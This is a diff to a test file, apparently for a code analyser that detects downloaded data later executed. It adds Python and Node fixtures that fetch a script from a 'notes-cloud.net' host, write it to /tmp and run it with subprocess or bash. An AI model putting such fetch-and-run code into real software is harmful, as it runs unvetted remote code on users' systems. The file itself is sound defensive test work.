@@ -1039,6 +1039,25 @@ Deno.test("downloaded data run by way of a file or a process is still run: writt
     ),
     [5],
   );
+  // A method of a path's object, then run by its path; Node's writeFileSync, then bash.
+  assert.deepEqual(
+    flows(
+      "scripts/e.py",
+      "import subprocess, urllib.request\nfrom pathlib import Path\n" +
+        'Path("/tmp/y.sh").write_bytes(urllib.request.urlopen("https://get.notes-cloud.net/y").read())\n' +
+        'subprocess.run(["/tmp/y.sh"])\n',
+    ),
+    [4],
+  );
+  assert.deepEqual(
+    flows(
+      "scripts/f.mjs",
+      'import fs from "node:fs";\nimport { execSync } from "node:child_process";\n' +
+        'fs.writeFileSync("/tmp/x.sh", await (await fetch("https://get.notes-cloud.net/x")).text());\n' +
+        'execSync("bash /tmp/x.sh");\n',
+    ),
+    [4],
+  );
   // curl started as a process, its output fed to a shell's stdin.
   assert.deepEqual(
     flows(
